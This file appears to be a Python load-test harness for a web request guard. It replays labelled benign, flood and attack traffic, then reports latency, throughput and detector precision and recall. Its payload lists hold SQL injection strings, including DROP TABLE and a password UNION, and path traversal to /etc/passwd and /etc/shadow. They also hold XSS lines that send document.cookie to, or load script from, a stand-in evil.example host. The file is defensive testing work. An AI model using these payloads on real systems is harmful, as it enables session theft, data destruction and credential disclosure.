@@ -0,0 +1,484 @@
+"""Traffic replay load test for the guard.
+
+Replays a mix of requests against the app and reports throughput,
+p50/p99/p999 latency, block precision/recall against the labelled mix and
+incident DB growth, so regressions in detectors.py, rate_limit.py or
+log_incident show up as numbers. The AI endpoints are served by
+stub_openai.py and incidents go to a scratch database.
+
+Synthetic mixes are built from these kinds of traffic (weights via --mix):
+
+benign   /echo calls with ordinary messages from a large pool of clients
+sqli     SQL injection payloads in the query string
+xss      script injection payloads
+lfi      path traversal / local file inclusion payloads
+scanner  harmless paths requested with scanner user agents
+flood    plain /echo calls hammered from --flood-ips addresses
+
+sqli/xss/lfi/scanner are attacks for precision and recall; floods are
+reported separately as the fraction the rate limiter turned away.
+
+client   in-process, through Flask's test client, one thread per
+         concurrent request (the sync guard)
+server   a real `app.run(threaded=True)` server in a child process
+asgi     in-process, through asgi_guard.app, every concurrent request a
+         coroutine on one event loop (the async guard)
+
+In-process targets report the peak thread count. Requested together,
+each runs in its own child process, since the app is configured once per
+process. Sync and async guards at 1k concurrent connections, with 200 ms
+of AI latency:
+
+    python bench_traffic.py --target client asgi --concurrency 1000 --ai-delay 0.2
+    python bench_traffic.py --target client server --requests 5000 --out results.json
+    python bench_traffic.py --save-mix mix.jsonl --requests 20000
+    python bench_traffic.py --replay mix.jsonl --target server --concurrency 32
+    python bench_traffic.py --replay mix.jsonl --compare results.json
+"""
+import argparse
+import asyncio
+import json
+import os
+import random
+import signal
+import sqlite3
+import subprocess
+import sys
+import tempfile
+import threading
+import time
+from concurrent.futures import ThreadPoolExecutor
+from urllib.parse import urlencode
+
+import requests
+
+from stub_openai import StubOpenAI
+
+HERE = os.path.dirname(os.path.abspath(__file__))
+IN_PROCESS = ('client', 'asgi')
+ATTACKS = ('sqli', 'xss', 'lfi', 'scanner')
+DEFAULT_MIX = 'benign=0.6,sqli=0.08,xss=0.08,lfi=0.06,scanner=0.06,flood=0.12'
+
+BENIGN_MESSAGES = (
+    'hello', 'hello world', 'order status for 1042', 'how do I reset my password',
+    'thanks, that worked', 'price of the blue model?', 'ship to 221B Baker Street',
+    'meeting moved to 3pm', 'cafe ole', 'is the store open on sunday',
+    'please update my address', 'select the large size',
+)
+SQLI = (
+    "1' OR '1'='1", "1 UNION SELECT username, password FROM users--",
+    "'; DROP TABLE users; --", "admin'--", "1 AND 1=1 /* probe */",
+    "x' UNION ALL SELECT NULL,NULL,version()#",
+)
+XSS = (
+    "<script>alert(1)</script>", "<img src=x onerror=alert(document.cookie)>",
+    "<svg onload=fetch('//evil.example/'+document.cookie)>", "javascript:alert(1)",
+    "\"><script src=//evil.example/x.js></script>",
+)
+LFI = (
+    "../../../../etc/passwd", "..%2f..%2f..%2fetc%2fshadow", "/proc/self/environ",
+    "....//....//etc/passwd", "..\\..\\windows\\win.ini",
+)
+SCANNER_AGENTS = ('sqlmap/1.7.2#stable', 'Nikto/2.5.0', 'Mozilla/5.0 (compatible; Nmap Scripting Engine)',
+                  'curl/8.4.0', 'Wget/1.21.4')
+BROWSER_AGENTS = (
+    'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 Chrome/126.0 Safari/537.36',
+    'Mozilla/5.0 (Macintosh; Intel Mac OS X 14_5) AppleWebKit/605.1.15 Version/17.5 Safari/605.1.15',
+    'Mozilla/5.0 (X11; Linux x86_64; rv:127.0) Gecko/20100101 Firefox/127.0',
+)
+
+
+def _ip(block, i):
+    # 198.18.0.0/15 is reserved for benchmarking (RFC 2544)
+    return f"198.{18 + block}.{(i >> 8) & 255}.{i & 255}"
+
+
+def parse_mix(spec: str) -> dict:
+    weights = {}
+    for part in spec.split(','):
+        kind, _, weight = part.partition('=')
+        kind = kind.strip()
+        if kind not in ATTACKS + ('benign', 'flood'):
+            raise ValueError(f"unknown traffic kind {kind!r}")
+        weights[kind] = float(weight)
+    return weights
+
+
+def make_mix(n: int, weights: dict, flood_ips: int = 4, clients: int = 2000, seed: int = 0):
+    """`n` labelled requests, shuffled. Benign clients and attackers use
+    disjoint address pools so one cannot get the other blocked."""
+    rng = random.Random(seed)
+    kinds = rng.choices(list(weights), list(weights.values()), k=n)
+    out = []
+    for kind in kinds:
+        ua = rng.choice(BROWSER_AGENTS)
+        path, query = '/echo', {}
+        if kind == 'benign':
+            ip = _ip(0, rng.randrange(clients))
+            query['msg'] = rng.choice(BENIGN_MESSAGES)
+        elif kind == 'flood':
+            ip = _ip(1, 60000 + rng.randrange(flood_ips))
+            query['msg'] = 'hello'
+        else:
+            ip = _ip(1, rng.randrange(50000))
+            if kind == 'scanner':
+                ua = rng.choice(SCANNER_AGENTS)
+                path = rng.choice(('/', '/echo', '/admin', '/.env', '/wp-login.php'))
+            else:
+                query['msg'] = rng.choice({'sqli': SQLI, 'xss': XSS, 'lfi': LFI}[kind])
+        out.append({'kind': kind, 'ip': ip, 'method': 'GET', 'path': path,
+                    'query': query, 'headers': {'User-Agent': ua}, 'body': ''})
+    return out
+
+
+def load_mix(path: str):
+    """Recorded traffic: one JSON request per line with the keys written by
+    --save-mix; `kind` is the label ('benign', 'flood' or an attack)."""
+    with open(path) as f:
+        return [json.loads(line) for line in f if line.strip()]
+
+
+def app_env(db_path: str, stub_url: str) -> dict:
+    env = dict(os.environ)
+    env.update({
+        'INCIDENT_DB_PATH': db_path,
+        'OPENAI_BASE_URL': stub_url,
+        'OPENAI_API_KEY': 'bench',
+        'SHARED_STATE_PATH': '',
+        'FLASK_ENV': 'production',
+    })
+    return env
+
+
+def db_usage(path: str) -> dict:
+    rows = 0
+    if os.path.exists(path):
+        db = sqlite3.connect(path)
+        rows = db.execute("SELECT COUNT(*) FROM incidents").fetchone()[0]
+        # Fold the WAL back in so sizes compare across runs and targets
+        db.execute("PRAGMA wal_checkpoint(TRUNCATE)")
+        db.close()
+    size = sum(os.path.getsize(p) for p in (path, path + '-wal') if os.path.exists(p))
+    return {'incidents': rows, 'bytes': size}
+
+
+def percentile(sorted_values, q: float) -> float:
+    if not sorted_values:
+        return float('nan')
+    return sorted_values[min(len(sorted_values) - 1, int(q * len(sorted_values)))]
+
+
+def replay(mix, send, concurrency: int):
+    """Send every request with `concurrency` worker threads. `send(req,
+    local)` gets a thread-local namespace for its client and returns
+    (status, location). Returns per-request results in mix order."""
+    results = [None] * len(mix)
+    local = threading.local()
+
+    def one(i):
+        req = mix[i]
+        t0 = time.perf_counter()
+        try:
+            status, location = send(req, local)
+        except Exception as e:
+            status, location = type(e).__name__, ''
+        results[i] = (time.perf_counter() - t0, status, location)
+
+    t0 = time.perf_counter()
+    with ThreadPoolExecutor(concurrency) as pool:
+        list(pool.map(one, range(len(mix))))
+    return results, time.perf_counter() - t0
+
+
+def replay_async(mix, send, concurrency: int):
+    """replay() on an event loop: `send(req)` is a coroutine function and
+    at most `concurrency` of them are in flight."""
+    results = [None] * len(mix)
+
+    async def main():
+        gate = asyncio.Semaphore(concurrency)
+
+        async def one(i):
+            async with gate:
+                t0 = time.perf_counter()
+                try:
+                    status, location = await send(mix[i])
+                except Exception as e:
+                    status, location = type(e).__name__, ''
+                results[i] = (time.perf_counter() - t0, status, location)
+
+        await asyncio.gather(*(one(i) for i in range(len(mix))))
+
+    t0 = time.perf_counter()
+    asyncio.run(main())
+    return results, time.perf_counter() - t0
+
+
+class PeakThreads:
+    """Samples the number of live threads while the block runs, not
+    counting the stub's connection threads."""
+
+    def __init__(self, interval: float = 0.005):
+        self.interval = interval
+        self.peak = self.count()
+        self._stop = threading.Event()
+
+    @staticmethod
+    def count() -> int:
+        return sum('process_request_thread' not in t.name for t in threading.enumerate())
+
+    def _sample(self):
+        while not self._stop.wait(self.interval):
+            self.peak = max(self.peak, self.count())
+
+    def __enter__(self):
+        self._thread = threading.Thread(target=self._sample, daemon=True)
+        self._thread.start()
+        return self
+
+    def __exit__(self, *exc):
+        self._stop.set()
+        self._thread.join()
+
+
+def summarize(mix, results, elapsed):
+    latencies = sorted(r[0] for r in results)
+    tp = fp = fn = tn = 0
+    by_kind, statuses, errors = {}, {}, 0
+    for req, (_, status, location) in zip(mix, results):
+        statuses[str(status)] = statuses.get(str(status), 0) + 1
+        if not isinstance(status, int) or status >= 500:
+            errors += 1
+            continue
+        blocked = status in (302, 303) and location.rstrip('/').endswith('/blocked')
+        kind = req.get('kind', 'benign')
+        seen, hit = by_kind.get(kind, (0, 0))
+        by_kind[kind] = (seen + 1, hit + blocked)
+        if kind in ATTACKS:
+            tp += blocked
+            fn += not blocked
+        elif kind != 'flood':
+            fp += blocked
+            tn += not blocked
+    return {
+        'requests': len(mix),
+        'elapsed_s': round(elapsed, 3),
+        'throughput_rps': round(len(mix) / elapsed, 1),
+        'latency_ms': {
+            'p50': round(percentile(latencies, 0.5) * 1e3, 3),
+            'p99': round(percentile(latencies, 0.99) * 1e3, 3),
+            'p999': round(percentile(latencies, 0.999) * 1e3, 3),
+            'max': round(latencies[-1] * 1e3, 3) if latencies else None,
+        },
+        'precision': round(tp / (tp + fp), 4) if tp + fp else None,
+        'recall': round(tp / (tp + fn), 4) if tp + fn else None,
+        'confusion': {'tp': tp, 'fp': fp, 'fn': fn, 'tn': tn},
+        'block_rate': {k: round(hit / seen, 4) for k, (seen, hit) in sorted(by_kind.items())},
+        'status': statuses,
+        'errors': errors,
+    }
+
+
+def run_client(mix, db_path, stub, concurrency):
+    """In-process through the Flask test client. The app reads its config
+    at import, so this runs once per process."""
+    os.environ.update(app_env(db_path, stub.base_url))
+    import app as app_module
+    before = db_usage(db_path)
+
+    def send(req, local):
+        if not hasattr(local, 'client'):
+            local.client = app_module.app.test_client()
+        resp = local.client.open(
+            req['path'], method=req['method'], query_string=req['query'],
+            headers=req['headers'], data=req.get('body') or None,
+            environ_overrides={'REMOTE_ADDR': req['ip']})
+        return resp.status_code, resp.headers.get('Location', '')
+
+    results, elapsed = replay(mix, send, concurrency)
+    app_module.incident_writer.flush()
+    return before, results, elapsed, db_usage(db_path)
+
+
+def run_asgi(mix, db_path, stub, concurrency):
+    """In-process through the ASGI guard in front of the Flask app."""
+    os.environ.update(app_env(db_path, stub.base_url))
+    import app as app_module
+    import asgi_guard
+    before = db_usage(db_path)
+
+    async def send(req):
+        body = (req.get('body') or '').encode('utf-8')
+        headers = [(k.lower().encode('latin-1'), v.encode('latin-1')) for k, v in req['headers'].items()]
+        if body:
+            headers.append((b'content-length', str(len(body)).encode('ascii')))
+        scope = {
+            'type': 'http', 'asgi': {'version': '3.0'}, 'http_version': '1.1',
+            'method': req['method'], 'scheme': 'http', 'path': req['path'], 'root_path': '',
+            'query_string': urlencode(req['query'], doseq=True).encode('ascii'),
+            'headers': headers, 'client': (req['ip'], 0), 'server': ('127.0.0.1', 80),
+        }
+        messages = [{'type': 'http.request', 'body': body, 'more_body': False}]
+        start = {}
+
+        async def receive():
+            return messages.pop() if messages else {'type': 'http.disconnect'}
+
+        async def send_message(message):
+            if message['type'] == 'http.response.start':
+                start.update(message)
+
+        await asgi_guard.app(scope, receive, send_message)
+        return start['status'], dict(start['headers']).get(b'location', b'').decode('latin-1')
+
+    results, elapsed = replay_async(mix, send, concurrency)
+    app_module.incident_writer.flush()
+    return before, results, elapsed, db_usage(db_path)
+
+
+def run_server(mix, db_path, stub, concurrency, port):
+    """A real threaded server in a child process, driven over HTTP."""
+    base = f"http://127.0.0.1:{port}"
+    proc = subprocess.Popen(
+        [sys.executable, '-c', f"from app import app; app.run(port={port}, threaded=True)"],
+        cwd=HERE, env=app_env(db_path, stub.base_url),
+        stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
+    try:
+        deadline = time.monotonic() + 30
+        while True:
+            try:
+                requests.get(f"{base}/blocked", timeout=1)
+                break
+            except requests.ConnectionError:
+                if proc.poll() is not None or time.monotonic() > deadline:
+                    raise RuntimeError("app server did not start")
+                time.sleep(0.1)
+        before = db_usage(db_path)
+
+        def send(req, local):
+            if not hasattr(local, 'session'):
+                local.session = requests.Session()
+            url = f"{base}{req['path']}"
+            if req['query']:
+                url += '?' + urlencode(req['query'])
+            # The dev server sees every client as 127.0.0.1; the guard
+            # trusts X-Forwarded-For, which is how the spread is simulated
+            headers = dict(req['headers'], **{'X-Forwarded-For': req['ip']})
+            resp = local.session.request(req['method'], url, headers=headers,
+                                         data=req.get('body') or None,
+                                         allow_redirects=False, timeout=30)
+            return resp.status_code, resp.headers.get('Location', '')
+
+        results, elapsed = replay(mix, send, concurrency)
+    finally:
+        # SIGINT lets atexit flush the incident writer
+        proc.send_signal(signal.SIGINT)
+        try:
+            proc.wait(30)
+        except subprocess.TimeoutExpired:
+            proc.kill()
+    return before, results, elapsed, db_usage(db_path)
+
+
+def run(target, mix, concurrency, ai_delay=0.0, port=5055):
+    with tempfile.TemporaryDirectory() as tmp, StubOpenAI(delay=ai_delay) as stub:
+        db_path = os.path.join(tmp, 'incidents.db')
+        with PeakThreads() as threads:
+            if target == 'client':
+                before, results, elapsed, after = run_client(mix, db_path, stub, concurrency)
+            elif target == 'asgi':
+                before, results, elapsed, after = run_asgi(mix, db_path, stub, concurrency)
+            else:
+                before, results, elapsed, after = run_server(mix, db_path, stub, concurrency, port)
+        report = {'target': target, 'concurrency': concurrency}
+        report.update(summarize(mix, results, elapsed))
+        if target in IN_PROCESS:
+            report['threads_peak'] = threads.peak
+        grown = after['bytes'] - before['bytes']
+        report['db'] = {
+            'incidents': after['incidents'] - before['incidents'],
+            'bytes': grown,
+            'bytes_per_request': round(grown / len(mix), 1),
+        }
+        report['ai_calls'] = stub.calls
+        return report
+
+
+def run_isolated(target, mix, args):
+    """run() in a child process, for a second in-process target."""
+    with tempfile.TemporaryDirectory() as tmp:
+        mix_path, out_path = os.path.join(tmp, 'mix.jsonl'), os.path.join(tmp, 'out.json')
+        with open(mix_path, 'w') as f:
+            f.writelines(json.dumps(req) + '\n' for req in mix)
+        subprocess.run(
+            [sys.executable, os.path.abspath(__file__), '--replay', mix_path, '--target', target,
+             '--concurrency', str(args.concurrency), '--ai-delay', str(args.ai_delay), '--out', out_path],
+            cwd=HERE, stdout=subprocess.DEVNULL, check=True)
+        with open(out_path) as f:
+            return json.load(f)['results'][0]
+
+
+def compare(report, baseline):
+    """Relative change against a previous report for the same target."""
+    out = {}
+    for key, get in (('throughput_rps', lambda r: r['throughput_rps']),
+                     ('p50_ms', lambda r: r['latency_ms']['p50']),
+                     ('p99_ms', lambda r: r['latency_ms']['p99']),
+                     ('p999_ms', lambda r: r['latency_ms']['p999']),
+                     ('db_bytes_per_request', lambda r: r['db']['bytes_per_request'])):
+        old, new = get(baseline), get(report)
+        out[key] = round(new / old - 1, 4) if old else None
+    for key in ('precision', 'recall'):
+        if report[key] is not None and baseline[key] is not None:
+            out[key] = round(report[key] - baseline[key], 4)
+    return out
+
+
+def main():
+    ap = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
+    ap.add_argument('--target', nargs='+', default=['client'], choices=['client', 'server', 'asgi'])
+    ap.add_argument('--requests', type=int, default=5000)
+    ap.add_argument('--concurrency', type=int, default=8)
+    ap.add_argument('--mix', default=DEFAULT_MIX, help=f'kind=weight,... (default {DEFAULT_MIX})')
+    ap.add_argument('--flood-ips', type=int, default=4)
+    ap.add_argument('--seed', type=int, default=0)
+    ap.add_argument('--replay', help='JSONL of recorded requests instead of a synthetic mix')
+    ap.add_argument('--save-mix', help='write the request mix as JSONL and exit')
+    ap.add_argument('--ai-delay', type=float, default=0.0, help='stub OpenAI latency in seconds')
+    ap.add_argument('--port', type=int, default=5055, help='port for --target server')
+    ap.add_argument('--out', help='write the results as JSON')
+    ap.add_argument('--compare', help='previous --out file to report relative changes against')
+    args = ap.parse_args()
+
+    if args.replay:
+        mix = load_mix(args.replay)
+    else:
+        mix = make_mix(args.requests, parse_mix(args.mix), args.flood_ips, seed=args.seed)
+    if args.save_mix:
+        with open(args.save_mix, 'w') as f:
+            f.writelines(json.dumps(req) + '\n' for req in mix)
+        return
+
+    baseline = {}
+    if args.compare:
+        with open(args.compare) as f:
+            baseline = {r['target']: r for r in json.load(f)['results']}
+    results = []
+    isolate = len([t for t in args.target if t in IN_PROCESS]) > 1
+    for target in args.target:
+        if isolate and target in IN_PROCESS:
+            report = run_isolated(target, mix, args)
+        else:
+            report = run(target, mix, args.concurrency, args.ai_delay, args.port)
+        if target in baseline:
+            report['vs_baseline'] = compare(report, baseline[target])
+        results.append(report)
+        print(json.dumps(report))
+    if args.out:
+        with open(args.out, 'w') as f:
+            json.dump({'created': time.time(), 'mix': args.replay or args.mix,
+                       'results': results}, f, indent=2)
+
+
+if __name__ == '__main__':
+    main()